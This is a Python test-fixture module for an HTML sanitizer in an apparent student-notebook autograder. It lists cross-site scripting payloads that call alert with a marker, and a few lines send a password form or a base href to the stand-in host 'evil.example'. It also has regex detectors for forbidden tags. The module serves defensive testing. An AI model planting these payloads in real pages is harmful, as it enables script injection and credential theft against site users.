"""Hostile and benign HTML for the tests of autograde/html_safety.py and of the pages built from
student notebooks (feedback, formgrader's notebooks).

Every hostile payload calls ``alert`` with :data:`MARKER`, so that a page can be searched for any
place where the marker could run: inside a script element, or in an attribute value.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

MARKER = "paysages-xss"

HOSTILE_HTML = (
    f"<script>alert('{MARKER}')</script>",
    f"<ScRiPt >alert('{MARKER}')</sCrIpT>",
    f"<scr<script>ipt>alert('{MARKER}')</script>",
    f"<img src=x onerror=\"alert('{MARKER}')\">",
    f"<IMG SRC=x OnErRoR=alert('{MARKER}')>",
    f"<img src=x\nonerror=alert('{MARKER}')>",
    f"<svg onload=alert('{MARKER}')><circle r=1 /></svg>",
    f"<svg><script>alert('{MARKER}')</script></svg>",
    f"<body onload=alert('{MARKER}')>",
    f"<details open ontoggle=alert('{MARKER}')>",
    f"<video><source onerror=\"alert('{MARKER}')\"></video>",
    f"<a href=\"javascript:alert('{MARKER}')\">clic</a>",
    f"<a href=\"  JaVaScRiPt:alert('{MARKER}')\">clic</a>",
    f"<a href=\"jav&#x09;ascript:alert('{MARKER}')\">clic</a>",
    f"<a href=\"&#106;avascript:alert('{MARKER}')\">clic</a>",
    f"<a href=\"data:text/html,<script>alert('{MARKER}')</script>\">clic</a>",
    "<iframe src=\"https://example.org\"></iframe>",
    f"<iframe srcdoc=\"<script>alert('{MARKER}')</script>\"></iframe>",
    "<object data=\"movie.swf\"></object>",
    "<embed src=\"movie.swf\">",
    f"<math><mtext><table><mglyph><style><img src=x onerror=alert('{MARKER}')>",
    f"<div style=\"background:url(javascript:alert('{MARKER}'))\">x</div>",
    "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">fausse page de connexion</div>",
    "<style>body{display:none}</style>",
    "<form action=\"https://evil.example\"><input name=password></form>",
    f"<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('{MARKER}')\">",
    "<base href=\"https://evil.example/\">",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    f"<!--><script>alert('{MARKER}')</script>-->",
)

# Benign HTML, and a piece of each that must survive cleaning.
BENIGN_HTML = (
    ("<table border=\"1\" class=\"dataframe\"><thead><tr><th>classe</th><th>photos</th></tr></thead>"
     "<tbody><tr><td>forest</td><td>42</td></tr></tbody></table>", "<td>forest</td><td>42</td>"),
    ("<p>Un texte en <b>gras</b> et en <i>italique</i>.</p>", "<b>gras</b>"),
    ("<img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"courbe\">", "src=\"data:image/png;base64,iVBORw0KGgo=\""),
    ("<a href=\"https://keras.io/\">Keras</a>", "href=\"https://keras.io/\""),
    ("<ul><li>un</li><li>deux</li></ul>", "<li>deux</li>"),
)

# Hostile markdown a student may write in a cell (raw HTML passes through markdown).
HOSTILE_MARKDOWN = (
    f"Ma réponse <script>alert('{MARKER}')</script>",
    f"[cliquer ici](javascript:alert('{MARKER}'))",
    f"[cliquer ici](<javascript:alert('{MARKER}')>)",
    f"[cliquer ici](&#106;avascript:alert('{MARKER}'))",
    f"[cliquer ici][lien]\n\n[lien]: javascript:alert('{MARKER}')",
    f"<div onmouseover=\"alert('{MARKER}')\">\n\nsurvol\n\n</div>",
    f"Voir la figure <img src=x onerror=\"alert('{MARKER}')\"> ci-dessus.",
    f"<!--><img src=x onerror=alert('{MARKER}')>-->",
    "<iframe src=\"https://example.org\"></iframe>",
)

# Tags and attributes no cleaned fragment may hold.
FORBIDDEN_TAG = re.compile(r"<\s*/?\s*(script|style|iframe|object|embed|svg|math|form|input|meta|base|link|body|video"
                           r"|source)\b", re.IGNORECASE)
FORBIDDEN_ATTRIBUTE = re.compile(r"\s(on[a-z]+|style|srcdoc)\s*=", re.IGNORECASE)


def forbidden_markup(fragment: str) -> list[str]:
    """Forbidden tags, attributes and script URLs found in a cleaned fragment (regular expressions)."""
    found = [match.group(0) for match in FORBIDDEN_TAG.finditer(fragment)]
    found += [match.group(0) for match in FORBIDDEN_ATTRIBUTE.finditer(fragment)]
    if re.search(r"(javascript|vbscript|data:text)", fragment, re.IGNORECASE):
        found.append("a script URL")
    return found


class _MarkerFinder(HTMLParser):
    def __init__(self, marker: str):
        super().__init__()
        self.marker = marker
        self.in_script = False
        self.found: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in ("iframe", "object", "embed"):
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if value and (self.marker in value or value.strip().lower().startswith("javascript:")):
                self.found.append(f"{name}={value!r} in <{tag}>")
        self.in_script = tag == "script"

    def handle_endtag(self, tag):
        if tag == "script":
            self.in_script = False

    def handle_data(self, data):
        if self.in_script and self.marker in data:
            self.found.append(f"script: {data.strip()[:80]!r}")


def runnable_marker(page: str, marker: str = MARKER) -> list[str]:
    """Where in a whole page the marker could run: script content, attribute values, frames."""
    finder = _MarkerFinder(marker)
    finder.feed(page)
    finder.close()
    return finder.found
